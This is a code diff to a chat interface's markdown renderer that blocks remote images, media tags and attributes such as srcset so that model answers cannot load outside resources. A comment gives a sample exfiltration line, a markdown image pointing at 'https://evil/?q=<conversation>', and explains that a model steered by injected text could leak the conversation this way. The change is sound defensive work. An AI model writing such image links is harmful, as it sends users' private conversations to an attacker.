@@ -155,11 +155,21 @@
 
   // ---------------------------------------------------------------- markdown
 
+  // Images in answers are shown only from data: URLs. Any other source is dropped before the HTML
+  // reaches the page (no request is made) and the image's alt text is shown instead: a model steered
+  // into writing ![](https://evil/?q=<conversation>) would otherwise send the conversation away. The
+  // page's CSP (img-src 'self' data:, connect-src 'self') refuses such requests as well.
+  const INLINE_IMAGE = /^data:image\//i;
+
   if (window.DOMPurify && window.DOMPurify.addHook) {
     window.DOMPurify.addHook("afterSanitizeAttributes", function (node) {
       if (node.tagName === "A" && node.getAttribute("href")) {
         node.setAttribute("target", "_blank");
         node.setAttribute("rel", "noopener noreferrer nofollow");
+      }
+      if (node.tagName === "IMG" && !INLINE_IMAGE.test(node.getAttribute("src") || "")) {
+        node.removeAttribute("src");
+        node.setAttribute("data-bl-remote", "");
       }
     });
   }
@@ -170,8 +180,9 @@
     const raw = window.marked.parse(text, { gfm: true, breaks: true, async: false });
     return window.DOMPurify.sanitize(raw, {
       USE_PROFILES: { html: true },
-      FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option"],
-      FORBID_ATTR: ["style"],
+      FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option",
+        "video", "audio", "source", "picture", "track"],
+      FORBID_ATTR: ["style", "srcset", "background", "poster"],
     });
   }
 
@@ -182,6 +193,9 @@
       target.classList.add("bl-plain");
     } else {
       target.innerHTML = html; // sanitized by DOMPurify above
+      target.querySelectorAll("img[data-bl-remote]").forEach(function (img) {
+        img.replaceWith(document.createTextNode(img.alt ? "[" + img.alt + "]" : ""));
+      });
     }
   }
 
